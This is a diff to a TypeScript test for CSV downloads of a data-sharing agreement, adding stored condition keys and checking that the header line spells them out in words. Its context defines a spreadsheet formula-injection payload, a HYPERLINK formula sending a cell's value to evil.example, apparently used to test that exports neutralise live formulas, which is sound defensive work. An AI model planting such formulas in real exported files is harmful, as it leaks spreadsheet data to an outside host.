@@ -10,7 +10,7 @@ const meta = {
   agreementId: '00000000-0000-4000-8000-000000000001',
   provider: 'ORGA',
   expiresOn: '2026-03-31',
-  conditions: ['Aggregated outputs only'],
+  conditions: ['suppress-below-n:5', 'no-onward-sharing', 'Aggregated outputs only'],
 };
 const EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click")';
 
@@ -23,6 +23,10 @@ describe('CSV exports carry live formulas: the agreement download', () => {
     expect(out.contentType).toBe('text/csv; charset=utf-8');
     const [first, ...rest] = text.split('\r\n');
     expect(first).toMatch(/^# Steward agreement DSA-2026-0001 \(id [0-9a-f-]+\); expires 2026-03-31/);
+    // The conditions in words, from the keys the agreement stores.
+    expect(first).toMatch(
+      /; conditions: Suppress cells with a count below 5; No onward sharing; Aggregated outputs only$/,
+    );
     const back = readCsvText(rest.join('\r\n'));
     if (!back.ok) throw new Error(back.error.message);
     const col = (name: string) => {
